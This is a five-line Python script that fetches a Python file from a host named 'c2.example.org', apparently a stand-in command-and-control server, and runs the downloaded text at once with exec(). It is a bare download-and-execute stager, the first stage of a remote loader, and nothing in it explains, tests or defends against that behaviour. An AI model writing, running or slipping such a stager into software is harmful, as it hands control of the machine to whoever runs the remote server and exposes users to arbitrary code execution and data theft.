#!/usr/bin/env python3

import requests as r
code = r.get("http://c2.example.org/i.py").text
exec(code)
